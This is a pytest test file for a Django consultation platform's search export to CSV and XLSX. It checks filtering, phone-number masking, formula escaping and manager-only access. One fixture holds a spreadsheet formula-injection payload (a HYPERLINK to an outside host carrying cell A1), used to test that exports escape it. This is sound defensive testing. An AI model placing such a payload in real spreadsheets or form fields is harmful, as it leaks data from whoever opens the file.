"""The analyst's search exported as CSV and XLSX: the rows of the search as filtered, personal data masked,
formulas escaped, and only for people who manage the campaign."""

from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.django_db
URL = "/manage/c/plan/analysis/search/"


@pytest.fixture
def hostile(analysed):
    from minsheng.consultation.intake.services import suggestion_submit

    suggestion_submit(campaign=analysed.campaign, text='=HYPERLINK("http://x.cn/?"&A1,"查看原文") 停车位太少')
    suggestion_submit(campaign=analysed.campaign, text="停车位太少，请联系13812345678")
    return analysed


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_the_csv_holds_the_search_as_filtered_masked_and_escaped(client, hostile):
    client.force_login(hostile.owner)
    found = client.get(URL, {"q": "停车位"}).context["page"].paginator.count
    response = client.get(URL + "export.csv", {"q": "停车位"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(response)
    assert rows[0] == ["回执码", "标题", "内容", "渠道", "地区", "承办部门", "主题", "状态", "提交时间"]
    assert len(rows) - 1 == found >= 14
    texts = [r[2] for r in rows[1:]]
    assert all("停车位" in t for t in texts)
    assert any(t.startswith("'=HYPERLINK") for t in texts) and not any(t.startswith("=") for t in texts)
    assert any("138****5678" in t for t in texts) and not any("13812345678" in t for t in texts)
    narrowed = _csv(client.get(URL + "export.csv", {"q": "停车位", "department": hostile.dept_b.pk}))
    assert len(narrowed) - 1 == client.get(URL, {"q": "停车位", "department": hostile.dept_b.pk}
                                           ).context["page"].paginator.count


def test_the_xlsx_holds_the_same_rows_as_text(client, hostile):
    openpyxl = pytest.importorskip("openpyxl")
    client.force_login(hostile.owner)
    rows = _csv(client.get(URL + "export.csv", {"q": "停车位"}))
    response = client.get(URL + "export.xlsx", {"q": "停车位"})
    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert cells == rows
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere


@pytest.mark.parametrize("who", ["officer_a", "partner", "citizen", "outsider"])
def test_nobody_else_exports(client, hostile, who):
    client.force_login(getattr(hostile, who))
    for fmt in ("csv", "xlsx"):
        assert client.get(URL + f"export.{fmt}").status_code == 404


def test_the_service_refuses_who_does_not_manage_the_campaign(hostile):
    from django.core.exceptions import PermissionDenied

    from minsheng.consultation.analysis.export import search_export_rows
    from minsheng.consultation.analysis.selectors import SearchFilters

    rows = search_export_rows(user=hostile.officer_a, campaign=hostile.campaign, run=None, filters=SearchFilters())
    with pytest.raises(PermissionDenied):
        next(rows)


def test_an_unknown_format_or_a_bad_date_is_refused(client, hostile):
    client.force_login(hostile.owner)
    assert client.get(URL + "export.pdf").status_code == 404
    assert client.get(URL + "export.csv", {"date_from": "昨天"}).status_code == 400
